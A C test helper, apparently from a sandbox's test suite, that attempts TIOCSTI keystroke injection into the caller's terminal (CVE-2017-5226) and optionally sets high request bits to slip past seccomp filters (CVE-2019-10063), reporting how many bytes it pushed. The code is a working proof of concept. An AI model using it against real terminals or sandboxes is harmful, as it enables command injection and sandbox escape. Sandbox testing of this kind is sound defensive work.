/* The attack of CVE-2017-5226: TIOCSTI pushes bytes into a terminal's
 * input queue, as if typed. A sandboxed program sharing the caller's
 * terminal could so type a command into the caller's shell, to run once
 * the sandbox exits. This helper tries, on its stdin, and says how it went.
 * With --high-bits it sets bit 32 of the request, which the kernel drops
 * (ioctl's cmd is an unsigned int) but a filter comparing all 64 bits sees
 * (CVE-2019-10063). Built static: it runs inside the busybox image.
 * ioctl_tty(2) TIOCSTI. */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	unsigned long request = TIOCSTI;
	int pushed = 0;

	if (argc > 1 && strcmp(argv[1], "--high-bits") == 0) {
		request |= 1UL << 32;
		argc--;
		argv++;
	}
	const char *keys = argc > 1 ? argv[1] : "echo INJECTED\n";
	/* The system call itself: the C library's ioctl may narrow the request. */
	for (const char *key = keys; *key; key++)
		if (syscall(SYS_ioctl, 0, request, key) == 0)
			pushed++;
		else
			break;
	printf("tiocsti: pushed %d of %zu bytes%s%s\n", pushed, strlen(keys), pushed < (int)strlen(keys) ? ": " : "",
	       pushed < (int)strlen(keys) ? strerror(errno) : "");
	return 0;
}
